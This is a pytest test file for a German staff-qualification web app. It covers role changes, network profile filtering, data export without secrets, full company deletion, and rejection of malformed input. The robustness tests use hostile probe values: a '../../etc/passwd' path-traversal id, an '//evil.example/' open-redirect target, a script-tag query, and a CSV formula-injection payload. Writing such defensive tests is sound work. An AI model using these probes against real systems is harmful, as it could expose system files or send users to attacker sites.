    revoked = invited.post(f"/firma/kuemmerer/{a.user.id}", {"kuemmerer": "0"})
    assert "Die Rolle ist entzogen." in follow(invited, revoked)
    assert a.get("/qualifikationen").status_code == 403
    # the last Kümmerer stays
    refused = invited.post(f"/firma/kuemmerer/{invited.user.id}", {"kuemmerer": "0"})
    assert "Ihre Firma braucht mindestens einen Kümmerer" in flashes(follow(invited, refused))
    assert app.extensions["accounts"].user_by_id(invited.user.id).kuemmerer
    assert invited.get("/qualifikationen").status_code == 200


def _profile(firm: Firm, visible: bool, name: str, town: str, industry: str, topics: str):
    data = {"display_name": name, "town": town, "industry": industry, "topics": topics, "contact": f"{name} @ Telefon"}
    if visible:
        data["visible"] = "1"
    assert firm.post("/netzwerk/profil", data).status_code == 302


def test_network_lists_opted_in_kuemmerer_only_filterable_by_region_and_topic(app):
    anke = Firm.register(app, "anke@arnold.example", "Metallbau Arnold")
    _profile(anke, True, "Anke Arnold", "Annaberg-Buchholz", "Metallbau", "Schweißen, Stapler")
    fritz = Firm.register(app, "fritz@freiberg.example", "Fräserei Freiberg")
    _profile(fritz, True, "Fritz Fräser", "Freiberg", "Zerspanung", "CNC, Pflege der Maschinen")
    carla = Firm.register(app, "carla@curt.example", "Pflegedienst Curt")
    _profile(carla, False, "Carla Curt", "Marienberg", "Pflege", "Schweißen")
    viewer = Firm.register(app, "bodo@bnutzer.example", "Bnutzer Bau")
    page = viewer.text("/netzwerk")
    assert "Anke Arnold" in page and "Fritz Fräser" in page and "Carla Curt" not in page
    names = lambda p: re.findall(r'<li class="hit"><h2>([^<]+)</h2>', p)  # noqa: E731
    assert names(viewer.text("/netzwerk?region=Erzgebirgskreis")) == ["Anke Arnold"]
    assert names(viewer.text("/netzwerk?region=Mittelsachsen")) == ["Fritz Fräser"]
    assert names(viewer.text("/netzwerk?thema=schweißen")) == ["Anke Arnold"]
    assert names(viewer.text("/netzwerk?thema=Zerspanung")) == ["Fritz Fräser"]  # the industry counts too
    assert names(viewer.text("/netzwerk?region=Mittelsachsen&thema=Stapler")) == []
    assert "Noch keine Einträge für diesen Filter" in viewer.text("/netzwerk?thema=Unterwasserkorbflechten")
    # a profile without contact cannot be visible; hiding it takes it out
    missing = anke.post("/netzwerk/profil", {"visible": "1", "display_name": "Anke Arnold"})
    assert missing.status_code == 422 and "Kontaktweg" in missing.get_data(as_text=True)
    _profile(anke, False, "Anke Arnold", "Annaberg-Buchholz", "Metallbau", "Schweißen")
    assert "Anke Arnold" not in viewer.text("/netzwerk")
    # a profile of someone who is no longer a Kümmerer is not listed
    second = colleague(app, fritz, "zweiter@freiberg.example")
    assert fritz.post(f"/firma/kuemmerer/{second.user.id}", {"kuemmerer": "1"}).status_code == 302
    assert second.post(f"/firma/kuemmerer/{fritz.user.id}", {"kuemmerer": "0"}).status_code == 302
    assert "Fritz Fräser" not in viewer.text("/netzwerk")


# -- 7. the company's data ----------------------------------------------------------------------------
def _rows_by_table(app, company_id: int) -> dict[str, set]:
    """Every row about one company: by company_id, by its users' ids, the company and its users."""
    result: dict[str, set] = {}
    with app.extensions["db"].engine.connect() as conn:
        user_ids = {r.id for r in conn.execute(select(tables.users.c.id).where(tables.users.c.company_id == company_id))}
        for table in tables.metadata.sorted_tables:
            columns = table.c
            conditions = []
            if "company_id" in columns:
                conditions.append(columns.company_id == company_id)
            if "user_id" in columns:
                conditions.append(columns.user_id.in_(user_ids or {-1}))
            if table is tables.companies:
                conditions.append(columns.id == company_id)
            for condition in conditions:
                result.setdefault(table.name, set()).update(tuple(r) for r in conn.execute(select(table).where(condition)))
    return result


def _dangling(app) -> list[str]:
    """Rows whose foreign key points at a row that no longer exists."""
    problems = []
    with app.extensions["db"].engine.connect() as conn:
        for table in tables.metadata.sorted_tables:
            for fk in table.foreign_keys:
                target = {r[0] for r in conn.execute(select(fk.column))}
                for value, in conn.execute(select(fk.parent)):
                    if value is not None and value not in target:
                        problems.append(f"{table.name}.{fk.parent.name}={value}")
    return problems


def test_company_data_export_has_everything_but_secrets(app, firm_a):
    data = firm_a.get("/konto/daten.json")
    assert data.status_code == 200 and data.mimetype == "application/json"
    assert "attachment" in data.headers["Content-Disposition"]
    text = data.get_data(as_text=True)
    export = data.get_json()
    assert sorted(p["name"] for p in export["staff"]) == ["Annegret Zwingenberger", "Bartholomäus Quendelbach"]
    assert len(export["holdings"]) == 4 and {h["qualification"] for h in export["holdings"]} >= {"ersthelfer", "staplerfahrer"}
    assert [n["origin"] for n in export["needs"]] == ["renewal:ersthelfer"]
    assert [q["label"] for q in export["own_qualifications"]] == ["Quarzsäge Typ Q7"]
    assert {u["email"] for u in export["users"]} == {"chefin@zwingen.example", "kollegin@zwingen.example"}
    assert export["company"]["name"] == "Zwingen Metall"
    assert "password_hash" not in text and "scrypt:" not in text and "pbkdf2:" not in text
    assert "calendar_token" not in text and firm_a.ids["token"] not in text


def test_deleting_the_company_needs_the_password_and_removes_every_row(app, firm_a):
    b = Firm.register(app, "bodo@bnutzer.example", "Bnutzer Bau")
    berta = b.add_person("Berta Bleibt", "Bau")
    b.hold(berta, "ersthelfer", due_acquired(30)[0])
    _profile(b, True, "Bodo Bnutzer", "Aue", "Bau", "Gerüst")
    _profile(firm_a, True, "Anke Zwingen", "Annaberg-Buchholz", "Metall", "Schweißen")
    app.extensions["accounts"].toggle_watch(firm_a.user.id, "a-1")
    app.extensions["accounts"].mark_mailed(firm_a.user.id, ["a-1"])
    app.extensions["accounts"].toggle_watch(b.user.id, "a-1")
    assert b.post("/qualifikationen/risiken/ersthelfer/bedarf").status_code == 302
    a_rows, b_rows = _rows_by_table(app, firm_a.company_id), _rows_by_table(app, b.company_id)
    for name in ("companies", "users", "staff", "holdings", "requirements", "own_qualifications", "needs",
                 "watch", "mailed", "kuemmerer_profiles"):
        assert a_rows.get(name), f"the fixture has no {name} row of A: the test would prove nothing"
    wrong = firm_a.post("/konto/loeschen", {"password": "falsches-passwort"})
    assert wrong.status_code == 400 and "Das Passwort stimmt nicht." in wrong.get_data(as_text=True)
    assert _rows_by_table(app, firm_a.company_id) == a_rows
    assert firm_a.kollegin.post("/konto/loeschen", {"password": "kollegen-passwort"}).status_code == 403
    assert _rows_by_table(app, firm_a.company_id) == a_rows
    done = firm_a.post("/konto/loeschen", {"password": PASSWORD})
    assert done.status_code == 302
    assert "Ihr Firmenkonto und alle Daten dazu sind gelöscht." in follow(firm_a, done)
    assert not any(_rows_by_table(app, firm_a.company_id).values())
    a_user_ids = {firm_a.user.id, firm_a.kollegin.user.id}
    with app.extensions["db"].engine.connect() as conn:
        for table in tables.metadata.sorted_tables:
            for column in ("company_id", "user_id"):
                if column in table.c:
                    values = {v for v, in conn.execute(select(table.c[column]))}
                    wanted = {firm_a.company_id} if column == "company_id" else a_user_ids
                    assert not values & wanted, f"{table.name}.{column} still has A's rows"
        left = " ".join(str(r) for t in tables.metadata.sorted_tables for r in conn.execute(select(t)))
    for secret in (*A_STAFF, *A_OTHER, "chefin@zwingen.example", "Zwingen Metall", "Anke Zwingen"):
        assert secret not in left, secret
    assert _dangling(app) == []
    assert _rows_by_table(app, b.company_id) == b_rows  # the other company is untouched
    assert firm_a.get("/qualifikationen").status_code == 302  # logged out
    assert login(app.test_client(), "chefin@zwingen.example").status_code == 400
    assert login(app.test_client(), "kollegin@zwingen.example", "kollegen-passwort").status_code == 400
    assert b.get(f"/kalender/{firm_a.ids['token']}.ics").status_code == 404
    assert "Berta Bleibt" in b.text("/qualifikationen")


# -- 8. garbage never gives a 500 ---------------------------------------------------------------------
LONG = "Ä" * 5000
GARBAGE = [
    {},
    {"name": LONG, "job": LONG, "leaving_year": "abc", "label": LONG, "display_name": LONG, "contact": LONG,
     "topics": LONG, "town": LONG, "industry": LONG, "email": LONG, "password": LONG, "search": LONG},
    {"name": "Gültig", "leaving_year": "-5", "acquired": "2026-02-31", "valid_until": "31.02.2026",
     "qualification": "gibt-es-nicht", "validity_months": "-12", "lead_days": "-1", "kuemmerer": "-1", "alle": "-1",
     "dabei": "1", "personen": "-5"},
    {"name": "Gültig", "leaving_year": "99999999999999999999", "acquired": "morgen", "valid_until": "2026-13-01",
     "qualification": "ersthelfer", "validity_months": "abc", "lead_days": "1e9", "job": "Lager", "dabei": "1",
     "personen": "99999999999999999999"},
    {"name": "Gültig", "acquired": (date.today() + timedelta(days=30)).isoformat(), "qualification": "ersthelfer",
     "validity_months": "99999999999999999999", "label": "Zahlen", "required": "vielleicht", "dabei": "1",
     "personen": "abc"},
    {"qualification": "x" * 500, "payload": "kein base64 !!!", "speichern": "1", "visible": "1", "zurueck": "//evil.example/"},
    {"payload": base64.b64encode(bytes(range(256)) * 10).decode(), "speichern": "1"},
    {"payload": base64.b64encode(b"Name;Qualifikation\r\n" + b"=1+1;" * 3000).decode(), "speichern": "1"},
    {"datei": (io.BytesIO(b"\xff\xfe\x00\x00garbage"), "kaputt.csv")},
]


def test_garbage_on_every_post_route_gives_4xx_or_a_redirect_with_a_flash(app, firm_a):
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a server error becomes a 500 response to count
    values = {"person_id": firm_a.ids["person"], "qualification_id": firm_a.ids["own"], "user_id": firm_a.user.id,
              "token": firm_a.ids["token"], "need_id": firm_a.ids["need"]}
    posts = sorted((rule.rule, rule) for rule in app.url_map.iter_rules()
                   if rule.rule.startswith(PREFIXES) and "POST" in rule.methods)
    assert len(posts) >= 15
    problems = []
    for _, rule in posts:
        if rule.endpoint == "network.delete_account":
            continue  # below, with wrong passwords only
        for path_values in (values, {**values, "qualification_id": "../../etc/passwd"}):
            url = rule.build(path_values, append_unknown=False)[1]
            for garbage in GARBAGE:
                form = {k: (io.BytesIO(v[0].getvalue()), v[1]) if isinstance(v, tuple) else v for k, v in garbage.items()}
                response = firm_a.post(url, form, content_type="multipart/form-data")
                status = response.status_code
                body = response.get_data(as_text=True)
                explained = 'role="alert"' in body or "Zeilen, die nicht übernommen werden" in body
                if status >= 500 or (status < 400 and status != 302 and not (status == 200 and explained)):
                    problems.append(f"POST {url} {sorted(garbage)}: {status}")
                elif status == 302:
                    location = response.headers["Location"]
                    if not location.startswith("/"):
                        problems.append(f"POST {url}: redirect off site to {location}")
                    elif not flashes(follow(firm_a, response)) and "/bedarfe/" not in location:
                        problems.append(f"POST {url} {sorted(garbage)}: redirect without a message")
    for password in ("", LONG, "falsch"):
        if (status := firm_a.post("/konto/loeschen", {"password": password}).status_code) != 400:
            problems.append(f"POST /konto/loeschen: {status}")
    assert not problems, "\n".join(problems)
    assert firm_a.get("/qualifikationen").status_code == 200  # the firm still exists and works


def test_garbage_in_query_strings_is_ignored(app, firm_a):
    app.config["PROPAGATE_EXCEPTIONS"] = False
    for path in ("/qualifikationen?faellig=99999999999999999999&abgelaufen=%00&qualifikation=" + "x" * 3000,
                 "/qualifikationen/risiken?jahre=-3", "/qualifikationen/risiken?jahre=abc",
                 "/qualifikationen/risiken?jahre=99999999999999999999",
                 "/netzwerk?region=%3Cscript%3E&thema=" + "ü" * 500, "/qualifikationen/export.csv?x=1"):
        assert firm_a.get(path).status_code == 200, path


def test_the_obvious_validation_messages(app):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    person = a.add_person("Erika Mustermann")
    cases = [
        ("/mitarbeitende/neu", {"name": "x" * 121}, "höchstens 120 Zeichen"),
        ("/mitarbeitende/neu", {"name": "  "}, "Bitte geben Sie einen Namen"),
        ("/mitarbeitende/neu", {"name": "Neu", "leaving_year": "abc"}, "„abc“ ist kein Jahr"),
        ("/mitarbeitende/neu", {"name": "Neu", "leaving_year": "1850"}, "„1850“ ist kein Jahr"),
        (f"/mitarbeitende/{person}/qualifikation", {"qualification": "ersthelfer", "acquired": "2026-02-31"},
         "Bitte geben Sie ein Datum wie 31.12.2026 an"),
        (f"/mitarbeitende/{person}/qualifikation", {"qualification": "ersthelfer",
                                                    "acquired": (date.today() + timedelta(days=1)).isoformat()},
         "liegt in der Zukunft"),
        ("/qualifikationen/eigene", {"label": ""}, "Bitte geben Sie eine Bezeichnung an"),
        ("/qualifikationen/eigene", {"label": "Säge", "validity_months": "abc"}, "in Monaten angeben"),
        ("/qualifikationen/anforderung", {"job": "", "qualification": "ersthelfer"}, "Bitte geben Sie die Tätigkeit an"),
    ]
    for url, data, message in cases:  # since #15 part 5: 422 with the message at the field, not a flash
        response = a.post(url, data)
        assert response.status_code == 422, (url, data, response.status_code)
        assert message in html.unescape(response.get_data(as_text=True)), (url, data)
    edit = a.post(f"/mitarbeitende/{person}", {"name": "Erika", "leaving_year": "abc"})
    assert edit.status_code == 422 and "ist kein Jahr" in edit.get_data(as_text=True)
    assert [p.name for p in store(app).people(a.company_id, archived=True)] == ["Erika Mustermann"]
    assert store(app).holdings(a.company_id) == [] and store(app).own_qualifications(a.company_id) == {}
    assert a.post(f"/mitarbeitende/{person}/qualifikation", {"qualification": "gibt-es-nicht"}).status_code == 404


# -- bugs found by these tests and fixed: they stay as regression tests --------------------------------
def test_huge_ids_in_paths_are_404(app, firm_a):
    app.config["PROPAGATE_EXCEPTIONS"] = False
    for huge, rule in ((h, r) for h in (2 ** 31, 2 ** 63) for r in app.url_map.iter_rules()):
        if rule.rule.startswith(PREFIXES) and rule.arguments & {"person_id", "user_id", "need_id"}:
            url = rule.build({"person_id": huge, "user_id": huge, "need_id": huge}, append_unknown=False)[1]
            response = firm_a.get(url) if "GET" in rule.methods else firm_a.post(url, {"name": "x", "kuemmerer": "1"})
            assert response.status_code == 404, url


def test_a_far_future_date_does_not_break_the_calendar(app):
    app.config["PROPAGATE_EXCEPTIONS"] = False
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    person = a.add_person("Erika Mustermann")
    a.post(f"/mitarbeitende/{person}/qualifikation", {"qualification": "ersthelfer", "valid_until": "9999-12-31"})
    assert a.get(feed_path(a)).status_code == 200


def test_nul_characters_in_text_fields_are_not_a_server_error(app, db_backend, request):
    app.config["PROPAGATE_EXCEPTIONS"] = False
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    statuses = {url: a.post(url, data).status_code for url, data in (
        ("/mitarbeitende/neu", {"name": "Nul\x00Byte"}),
        ("/qualifikationen/eigene", {"label": "Nul\x00Byte"}),
        ("/qualifikationen/anforderung", {"job": "Nul\x00Byte", "qualification": "ersthelfer"}),
        ("/netzwerk/profil", {"display_name": "Nul\x00Byte", "contact": "x", "visible": "1"}))}
    assert all(s < 500 for s in statuses.values()), statuses


def test_a_negative_validity_is_refused(app):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    response = a.post("/qualifikationen/eigene", {"label": "Säge", "validity_months": "-12"})
    assert response.status_code == 422 and "in Monaten angeben" in response.get_data(as_text=True)
    assert store(app).own_qualifications(a.company_id) == {}


@pytest.mark.parametrize("action", ["loeschen", "archivieren", "eigene"])
def test_removing_the_only_due_person_closes_the_generated_need(app, action):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    erika = a.add_person("Erika Mustermann")
    if action == "eigene":
        assert a.post("/qualifikationen/eigene", {"label": "Kettensäge", "validity_months": "12"}).status_code == 302
        qualification = next(iter(store(app).own_qualifications(a.company_id)))
        a.hold(erika, qualification, None, date.today() + timedelta(days=10))
        url = f"/qualifikationen/eigene/{qualification}/loeschen"
    else:
        a.hold(erika, "ersthelfer", due_acquired(40)[0])
        url = f"/mitarbeitende/{erika}/{action}"
    assert len(a.needs()) == 1
    assert a.post(url).status_code == 302
    assert a.needs() == []


def test_the_403_page_does_not_send_people_to_the_wrong_role(app, firm_a):
    for user in (office(app), firm_a.kollegin):
        page = user.get("/qualifikationen")
        assert page.status_code == 403
        assert "der Koordinierungsstelle vorbehalten" not in page.get_data(as_text=True)
